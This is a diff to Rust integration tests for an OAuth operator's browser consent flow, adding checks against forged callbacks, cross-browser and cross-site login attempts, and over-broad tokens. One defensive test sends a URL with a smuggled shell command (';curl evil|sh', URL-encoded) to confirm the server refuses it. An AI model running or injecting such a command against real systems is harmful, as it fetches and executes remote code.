@@ -39,10 +39,10 @@ async fn pages_at(story: &Story<'_>, identity: &str, url: &str, port: u16) -> Re
 }
 
 /// A client whose codes go to the pages.
-async fn client(provider: &AuthorizationServer, url: &str, patch: Value) -> Result<Client> {
+async fn client(story: &Story<'_>, provider: &AuthorizationServer, url: &str, patch: Value) -> Result<Client> {
     let mut metadata = json!({
         "accessTokenTtl": 3600, "token_endpoint_auth_method": "none", "response_types": ["code"],
-        "grant_types": ["authorization_code", "refresh_token"], "redirect_uris": [format!("{url}/callback")],
+        "grant_types": ["authorization_code", "refresh_token"], "redirect_uris": [format!("{url}/callback/{}/bot", story.apps)],
     });
     metadata.as_object_mut().ok_or("an object")?.extend(patch.as_object().cloned().unwrap_or_default());
     provider.register_with(&metadata).await
@@ -73,7 +73,7 @@ fn person(story: &Story<'_>, name: &str, verbs: &[&str]) -> Result<String> {
          "subjects": [{"kind": "ServiceAccount", "name": name, "namespace": story.apps}]},
     ]);
     story.kubectl().apply(&json!({"apiVersion": "v1", "kind": "List", "items": items}).to_string())?;
-    Ok(story.kubectl().run(&["create", "token", name])?.trim().to_owned())
+    Ok(name.to_owned())
 }
 
 /// An HTTP client that trusts the operator's own CA, as published, and nothing else.
@@ -85,7 +85,12 @@ fn http(story: &Story<'_>) -> Result<reqwest::Client> {
 }
 
 /// Asks for a link: status and what is said.
-async fn ticket(story: &Story<'_>, pages: &Pages, name: &str, token: &str) -> Result<(u16, Value)> {
+async fn ticket(story: &Story<'_>, pages: &Pages, name: &str, who: &str) -> Result<(u16, Value)> {
+    let token = story.kubectl().run(&["create", "token", who, "--audience", &pages.url])?;
+    ticket_by(story, pages, name, token.trim()).await
+}
+
+async fn ticket_by(story: &Story<'_>, pages: &Pages, name: &str, token: &str) -> Result<(u16, Value)> {
     let url = format!("{}/tickets/{}/{name}", pages.url, story.apps);
     let answer = http(story)?.post(url).bearer_auth(token).send().await?;
     Ok((answer.status().as_u16(), serde_json::from_str(&answer.text().await?)?))
@@ -112,7 +117,7 @@ async fn a_person_connects_an_account_in_a_browser_without_javascript() -> Resul
     }
     let (story, provider) = story("consent").await?;
     let pages = pages(&story, "operator-1").await?;
-    let client = client(provider, &pages.url, json!({})).await?;
+    let client = client(&story, provider, &pages.url, json!({})).await?;
     account(&story, "bot", provider, &client, json!({}))?;
     let words = story.until("bot", "Ready", "False", "AuthorizationPending").await?;
     assert!(words.contains(&format!("{}/consent/{}/bot", pages.url, story.apps)), "{words}");
@@ -168,15 +173,17 @@ async fn only_those_who_may_connect_an_account_and_only_in_one_browser() -> Resu
     }
     let (story, provider) = story("consent-rights").await?;
     let pages = pages(&story, "operator-1").await?;
-    let client = client(provider, &pages.url, json!({})).await?;
+    let client = client(&story, provider, &pages.url, json!({})).await?;
     account(&story, "bot", provider, &client, json!({}))?;
     story.until("bot", "Ready", "False", "AuthorizationPending").await?;
     let (viewer, alice) = (person(&story, "viewer", &["get", "list"])?, person(&story, "alice", &["authorize"])?);
     let (status, said) = ticket(&story, &pages, "bot", &viewer).await?;
     assert_eq!(status, 403);
     assert!(said["error"].as_str().is_some_and(|why| why.contains("may not authorize oauthaccounts/bot")), "{said}");
-    assert_eq!(ticket(&story, &pages, "bot", "not-a-token").await?.0, 401);
+    assert_eq!(ticket_by(&story, &pages, "bot", "not-a-token").await?.0, 401);
     assert_eq!(ticket(&story, &pages, "nobody", &alice).await?.0, 404);
+    let whole = story.kubectl().run(&["create", "token", &alice])?;
+    assert_eq!(ticket_by(&story, &pages, "bot", whole.trim()).await?.0, 401, "a token that opens the API server is not for us");
 
     let page = format!("{}/consent/{}/bot", pages.url, story.apps);
     let stranger = browser::drive(json!([{"open": page}, {"judge": true}, {"shot": "consent-without-link"}])).await?;
@@ -199,15 +206,30 @@ async fn only_those_who_may_connect_an_account_and_only_in_one_browser() -> Resu
 
     // Begun in one browser, brought to its end in another: the login of the second must not become the account's.
     let second = link(&story, &pages, "bot", &alice).await?;
-    let begun = browser::drive(json!([{"open": second}, {"click": "Continue to the provider"}])).await?;
+    let ticket = second.split_once("ticket=").ok_or("no ticket")?.1;
+    let begun = http(&story)?.post(&page).header("content-type", "application/x-www-form-urlencoded");
+    let begun = begun.body(format!("ticket={ticket}")).send().await?;
+    let to_provider = begun.headers()["location"].to_str()?.to_owned();
+    assert!(to_provider.starts_with(&provider.issuer) && to_provider.contains("code_challenge_method=S256"), "{to_provider}");
     let moved =
-        steps(&[json!({"open": begun["url"]})], log_in("mallory", "Continue"), &[json!({"shot": "consent-other-browser"})]);
-    let seen = browser::drive(moved).await;
-    let text = seen.as_ref().map(|seen| seen["text"].as_str().unwrap_or_default().to_owned()).unwrap_or_default();
-    let kept_out = seen.is_err() || text.contains("was not begun in this browser") || !text.contains("is connected");
-    assert!(kept_out, "{text}");
-    let forged = format!("{}/callback?state={}.x&code=stolen&iss={}", pages.url, "0".repeat(32), provider.issuer);
+        steps(&[json!({"open": to_provider})], log_in("mallory", "Continue"), &[json!({"shot": "consent-other-browser"})]);
+    let seen = browser::drive(moved).await?;
+    let text = seen["text"].as_str().unwrap_or_default();
+    assert!(text.contains("was not begun in this browser"), "{text}");
+    let forged = format!("{}/callback/{}/bot?state=x&code=stolen&iss={}", pages.url, story.apps, provider.issuer);
     assert_eq!(http(&story)?.get(forged).send().await?.status().as_u16(), 403);
+    let foreign = http(&story)?
+        .post(&page)
+        .header("sec-fetch-site", "cross-site")
+        .header("content-type", "application/x-www-form-urlencoded");
+    assert_eq!(foreign.body("ticket=x").send().await?.status().as_u16(), 403, "another site's form begins nothing");
+    let odd = format!("{}/consent/{}/bot%3Bcurl%20evil%7Csh", pages.url, story.apps);
+    let odd = http(&story)?.get(odd).send().await?;
+    assert_eq!(
+        (odd.status().as_u16(), odd.text().await?.contains("curl")),
+        (404, false),
+        "no command is made of what others wrote"
+    );
     assert_eq!(story.condition("bot", "Ready")?.ok_or("no Ready")?.1, "AuthorizationPending");
     assert_eq!(provider.token_requests(&client).await?, (0, 0), "no code was redeemed");
     Ok(())
@@ -220,7 +242,7 @@ async fn where_it_is_known_who_must_log_in_no_link_is_needed_and_nobody_else_is_
     }
     let (story, provider) = story("consent-subject").await?;
     let pages = pages(&story, "operator-1").await?;
-    let client = client(provider, &pages.url, json!({})).await?;
+    let client = client(&story, provider, &pages.url, json!({})).await?;
     account(&story, "bot", provider, &client, json!({"expectedSubject": "alice"}))?;
     story.until("bot", "Ready", "False", "AuthorizationPending").await?;
     let page = story.get("bot")?.status.and_then(|status| status.authorization?.url).ok_or("no page")?;
@@ -247,22 +269,25 @@ async fn a_replica_that_does_not_lead_serves_the_pages_and_the_leader_redeems() 
         return Ok(());
     }
     let (story, provider) = story("consent-replica").await?;
-    let _leader = story.operator("operator-1").await?;
-    let pages = pages(&story, "operator-2").await?;
-    let client = client(provider, &pages.url, json!({})).await?;
+    // People reach the second; the first leads.
+    let port = || -> Result<u16> { Ok(TcpListener::bind("127.0.0.1:0")?.local_addr()?.port()) };
+    let (first, second) = (port()?, port()?);
+    let url = format!("https://127.0.0.1:{second}");
+    let leader = pages_at(&story, "operator-1", &url, first).await?;
+    leader.operator.process.until("leading", SOON, async || leader.operator.leads().await).await?;
+    let pages = pages_at(&story, "operator-2", &url, second).await?;
+    let client = client(&story, provider, &pages.url, json!({})).await?;
     account(&story, "bot", provider, &client, json!({}))?;
-    // The leader has no pages of its own here, and says so of the account until it hears of the code.
     let link = link(&story, &pages, "bot", &person(&story, "alice", &["authorize"])?).await?;
-    let first = [json!({"open": link}), json!({"click": "Continue to the provider"})];
-    browser::drive(steps(&first, log_in("alice", "Continue"), &[])).await?;
-    assert!(!pages.operator.leads().await);
-    let deposited = || {
-        let kubectl = story.cluster.kubectl().namespaced(&story.system);
-        let phase = r"jsonpath={.items[*].metadata.annotations.oauth-operator\.dev/consent-phase}";
-        Ok((kubectl.run(&["get", "secrets", "-l", "app.kubernetes.io/component=consent", "-o", phase])? == "Deposited")
-            .then_some(()))
-    };
-    eventually(SOON, deposited).await?.ok_or("the code is not deposited")?;
+    let begin = [json!({"open": link}), json!({"click": "Continue to the provider"})];
+    let done = [json!({"await": "The account is connected"})];
+    browser::drive(steps(&begin, log_in("alice", "Continue"), &done)).await?;
+    story.until_ready("bot").await?;
+    assert!(leader.operator.leads().await && !pages.operator.leads().await);
+    let audited =
+        |operator: &Operator, what: &str| operator.log().iter().any(|line| line["target"] == "audit" && line["what"] == what);
+    assert!(audited(&pages.operator, "login came back") && audited(&leader.operator, "token obtained"));
+    assert_eq!(provider.token_requests(&client).await?, (1, 0));
     Ok(())
 }
 
@@ -274,7 +299,7 @@ async fn a_pushed_request_and_a_signed_client_connect_an_account() -> Result<()>
     let (story, provider) = story("consent-pushed").await?;
     let pages = pages(&story, "operator-1").await?;
     let metadata = json!({"require_pushed_authorization_requests": true, "token_endpoint_auth_method": "client_secret_basic"});
-    let client = client(provider, &pages.url, metadata).await?;
+    let client = client(&story, provider, &pages.url, metadata).await?;
     story.secret("bot-client", &[("client_secret", &client.secret)])?;
     let patch = json!({"client": {"secretRef": {"name": "bot-client", "key": "client_secret"}}, "par": true});
     account(&story, "bot", provider, &client, patch)?;
